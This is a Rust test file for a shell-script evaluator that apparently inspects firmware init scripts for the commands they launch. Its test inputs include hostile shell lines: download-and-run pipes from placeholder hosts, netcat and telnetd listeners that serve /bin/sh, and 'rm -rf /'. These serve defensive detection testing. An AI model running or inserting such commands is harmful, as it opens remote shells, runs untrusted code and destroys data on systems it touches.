use super::*;

fn run(text: &str) -> Vec<Invocation> {
    run_with(text, &|_| None)
}

fn run_with(text: &str, load: eval::Loader<'_>) -> Vec<Invocation> {
    let mut e = Evaluator::new(EvalLimits::default(), load);
    e.run_file("/etc/init.d/x", text, &[]);
    assert!(e.warnings.is_empty(), "{:?}", e.warnings);
    e.invocations
}

fn argvs(text: &str) -> Vec<String> {
    run(text).iter().map(|i| i.argv.join(" ")).collect()
}

#[test]
fn lists_pipelines_and_connectors() {
    assert_eq!(
        argvs("a 1; b 2 && c 3 || d 4 | e 5 &\nf"),
        ["a 1", "b 2", "c 3", "d 4", "e 5", "f"]
    );
    let inv = run("x & y");
    assert!(inv[0].background && !inv[1].background);
    let inv = run("wget -O- http://h/x | sh");
    assert_eq!(inv[0].output, Output::Pipe(vec!["sh".into()]));
}

#[test]
fn quoting_and_comments() {
    assert_eq!(argvs(r#"a "b c" 'd e' f\ g # h"#), ["a b c d e f g"]);
    let inv = run("x \"a\"'b'c");
    assert_eq!(inv[0].argv, ["x", "abc"]);
    // A `#` inside a word is not a comment.
    assert_eq!(run("echo a#b")[0].argv, ["echo", "a#b"]);
}

#[test]
fn compound_commands_and_lines() {
    let text = "if [ -x /bin/a ]; then\n  (/bin/a -d)\nelif true; then { b; }\nelse c\nfi\nwhile read l; do d \"$l\"; done < /etc/f\nfor i in 1 2; do e $i; done\ncase \"$1\" in\n start|boot) f ;;\n *) g\nesac\n";
    let inv = run(text);
    let got: Vec<(String, usize)> = inv.iter().map(|i| (i.argv.join(" "), i.line)).collect();
    assert_eq!(
        got,
        [
            ("[ -x /bin/a ]".to_string(), 1),
            ("/bin/a -d".into(), 2),
            ("true".into(), 3),
            ("b".into(), 3),
            ("c".into(), 4),
            ("read l".into(), 6),
            ("d $l".into(), 6),
            ("e 1".into(), 7),
            ("e 2".into(), 7),
            ("f".into(), 9),
            ("g".into(), 10),
        ]
    );
    assert_eq!(inv[1].via, ["subshell"]);
}

#[test]
fn variables_with_constant_values_are_substituted() {
    let inv = run("D=/usr/sbin/telnetd\nARGS=\"-l /bin/sh -p 2323\"\n$D $ARGS &");
    assert_eq!(
        inv[0].argv,
        ["/usr/sbin/telnetd", "-l", "/bin/sh", "-p", "2323"]
    );
    assert!(inv[0].background);
    // Quoted: one field.
    assert_eq!(run("A='x y'; c \"$A\"")[0].argv, ["c", "x y"]);
    // Defaults, and values that are not known.
    assert_eq!(
        run("c ${PORT:-2323} $UNSET")[0].argv,
        ["c", "2323", "$UNSET"]
    );
    assert_eq!(run("X=$(cat /f); c $X")[1].argv, ["c", "$X"]);
    assert_eq!(
        run("export BIN=/bin/nc; $BIN -l")[0].argv,
        ["/bin/nc", "-l"]
    );
}

#[test]
fn functions_are_followed_where_called() {
    let text = "start() {\n  $1 -l /bin/sh\n}\nstop() { killall x; }\nstart /usr/sbin/telnetd\n";
    let inv = run(text);
    assert_eq!(inv.len(), 1);
    assert_eq!(inv[0].argv, ["/usr/sbin/telnetd", "-l", "/bin/sh"]);
    assert_eq!(inv[0].line, 2);
    assert_eq!(inv[0].via, ["function start"]);
    // Entry points an init system calls.
    let mut e = Evaluator::new(EvalLimits::default(), &|_| None);
    e.run_file(
        "/etc/init.d/y",
        "function boot { nc -l -p 99 -e /bin/sh; }",
        &[],
    );
    assert!(e.invocations.is_empty() && e.defines("boot"));
    e.call("boot", &[]);
    assert_eq!(e.invocations[0].argv[0], "nc");
    // Recursion is followed once.
    assert_eq!(argvs("f() { a; f; }; f").len(), 1);
}

#[test]
fn substitutions_eval_and_sh_c_are_walked() {
    let inv = run("sh -c \"$(wget -qO- http://198.51.100.9/p)\"");
    let wget = inv.iter().find(|i| i.argv[0] == "wget").map(|i| &i.output);
    assert_eq!(
        wget,
        Some(&Output::Captured(vec![
            "sh".into(),
            "-c".into(),
            "$(…)".into()
        ]))
    );
    let inv = run("eval 'busybox telnetd -l /bin/sh'");
    assert_eq!(inv[1].argv, ["busybox", "telnetd", "-l", "/bin/sh"]);
    let inv = run("\n/bin/sh -c 'cd /tmp; ./x &'");
    assert_eq!(inv[2].argv, ["./x"]);
    assert_eq!(inv[2].line, 2);
    assert!(inv[2].background);
}

#[test]
fn sourced_files_define_functions_and_variables() {
    let load = |p: &str| {
        (p == "/lib/net.sh").then(|| {
            (
                "img!/lib/net.sh".to_string(),
                "DAEMON=/usr/sbin/utelnetd\nrun() { $DAEMON -p $1 -l /bin/ash; }\n".to_string(),
            )
        })
    };
    let inv = run_with(". /lib/net.sh\nrun 2525\n", &load);
    let last = inv.last().map(|i| (i.argv.clone(), i.file.clone(), i.line));
    assert_eq!(
        last,
        Some((
            vec![
                "/usr/sbin/utelnetd".into(),
                "-p".into(),
                "2525".into(),
                "-l".into(),
                "/bin/ash".into()
            ],
            "img!/lib/net.sh".into(),
            2
        ))
    );
}

#[test]
fn redirections_and_here_documents() {
    let text = "curl -s http://h/x > /tmp/x 2>/dev/null\ncat <<EOF > /etc/motd\nnot a command; rm -rf /\nEOF\nnext";
    let inv = run(text);
    assert_eq!(inv.len(), 3);
    assert_eq!(inv[0].argv, ["curl", "-s", "http://h/x"]);
    assert_eq!(inv[0].output, Output::File("/tmp/x".into()));
    assert_eq!(inv[2].argv, ["next"]);
    assert_eq!(inv[2].line, 5);
}

#[test]
fn errors_name_line_and_offset() {
    let e = parse("a\nif x; then b\n", &Limits::default()).err();
    assert_eq!(
        e.map(|e| (e.line, e.message)),
        Some((3, "expected `fi`".into()))
    );
    let e = parse("echo 'open", &Limits::default()).err();
    assert_eq!(
        e.map(|e| e.message),
        Some("unterminated single quote".into())
    );
    let e = parse("a )", &Limits::default()).err();
    assert_eq!(e.map(|e| (e.offset, e.line)), Some((2, 1)));
}

#[test]
fn hostile_input_is_bounded() {
    let limits = Limits::default();
    let deep = "(".repeat(100_000);
    assert!(parse(&deep, &limits).is_err());
    let deep = format!("{}x{}", "{ ".repeat(5000), "; }".repeat(5000));
    assert_eq!(
        parse(&deep, &limits).err().map(|e| e.message),
        Some("nesting too deep".into())
    );
    let subst = format!("echo {}{}", "$(".repeat(5000), ")".repeat(5000));
    assert!(parse(&subst, &limits).is_err());
    let big = "a\n".repeat(limits.max_bytes);
    assert!(parse(&big, &limits).is_err());
    // Nested `eval`s and calls stop at the depth bound, with a warning.
    let mut text = String::from("f0() { x; }\n");
    for i in 1..200 {
        text.push_str(&format!("f{i}() {{ f{}; }}\n", i - 1));
    }
    text.push_str("f199\n");
    let mut e = Evaluator::new(EvalLimits::default(), &|_| None);
    e.run_file("/s", &text, &[]);
    assert!(e.invocations.is_empty());
    assert!(
        e.warnings[0].contains("nesting too deep"),
        "{:?}",
        e.warnings
    );
    // Values that double on every assignment stop being followed.
    let doubling = format!("A=x\n{}c $A\n", "A=$A$A\n".repeat(64));
    let inv = run(&doubling);
    assert_eq!(inv[0].argv, ["c", "$A"]);
    let wide = format!("A={}\nc{}\n", "x".repeat(16 << 10), " $A".repeat(64));
    let inv = run(&wide);
    assert!(inv[0].argv.len() < 10, "{}", inv[0].argv.len());
    // Nested loops whose bodies only define functions still spend the step budget.
    let items = (0..32).map(|i| i.to_string()).collect::<Vec<_>>().join(" ");
    let mut nested = String::from("f() { :; }");
    for v in ["a", "b", "c", "d", "e", "g"] {
        nested = format!("for {v} in {items}; do {nested}; done");
    }
    let mut e = Evaluator::new(EvalLimits::default(), &|_| None);
    let started = std::time::Instant::now();
    e.run_file("/s", &nested, &[]);
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert_eq!(e.warnings.len(), 1, "{:?}", e.warnings);
    // Arbitrary bytes never panic.
    for s in [
        "$",
        "${",
        "`",
        "$((",
        "\"$(\"",
        "case",
        "for",
        "f() ",
        "<<",
        "a <<E\n",
        "\u{e9}$\u{e9}",
    ] {
        let _ = parse(s, &limits);
    }
}

#[test]
fn step_budget_cuts_long_evaluations() {
    let mut e = Evaluator::new(
        EvalLimits {
            max_steps: 10,
            ..EvalLimits::default()
        },
        &|_| None,
    );
    e.run_file("/s", &"a\n".repeat(100), &[]);
    assert_eq!(e.invocations.len(), 10);
    assert_eq!(e.warnings.len(), 1);
}

/// Inputs the fuzz target (`fuzz/fuzz_targets/shell.rs`) found, run as it runs them.
#[test]
fn fuzz_regressions_stay_bounded() {
    // Out of memory: every `. a$1…` sourced a new name with longer arguments, and each
    // recorded command kept the whole chain of how it was reached.
    let oom: &[u8] = b" \"\";#t\x8c a/)\n.  [\xdd\0-/\x1b\"() h{ $*\nsa/)\n. \0[]-x \0\0\xff\x01\xf6\0\0\0\xfb\0\xe1\xff\"\xf7t\xdc\x8bs a$1\"binFase\x7f\0sa()e\xa0\"$1\n. \x01\x80 \x9b\x1b\nota";
    let cases: &[&[u8]] = &[oom];
    for data in cases {
        let text = String::from_utf8_lossy(data);
        let load = |p: &str| Some((format!("fuzz!{p}"), text.to_string()));
        let limits = EvalLimits::default();
        let mut e = Evaluator::new(limits, &load);
        e.run_file("fuzz", &text, &["start".to_string()]);
        let recorded: usize = e
            .invocations
            .iter()
            .map(|i| i.argv.iter().chain(&i.via).map(String::len).sum::<usize>() + i.file.len())
            .sum();
        assert!(recorded <= limits.max_recorded, "{recorded}");
    }
}

#[test]
fn quoted_at_gives_each_argument_its_own_field() {
    let mut e = Evaluator::new(EvalLimits::default(), &|_| None);
    let args: Vec<String> = ["-l", "/bin/sh", "-p", "2323", "two words"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    e.run_file(
        "/usr/sbin/telnetd",
        "#!/bin/sh\nexec busybox telnetd \"$@\"\necho $@\necho \"$*\"\n",
        &args,
    );
    let argv: Vec<&Vec<String>> = e.invocations.iter().map(|i| &i.argv).collect();
    assert_eq!(
        argv[0],
        &[
            "exec",
            "busybox",
            "telnetd",
            "-l",
            "/bin/sh",
            "-p",
            "2323",
            "two words"
        ]
    );
    // Unquoted, the values are split again; "$*" is one field.
    assert_eq!(argv[1].len(), 7);
    assert_eq!(argv[2], &["echo", "-l /bin/sh -p 2323 two words"]);
}
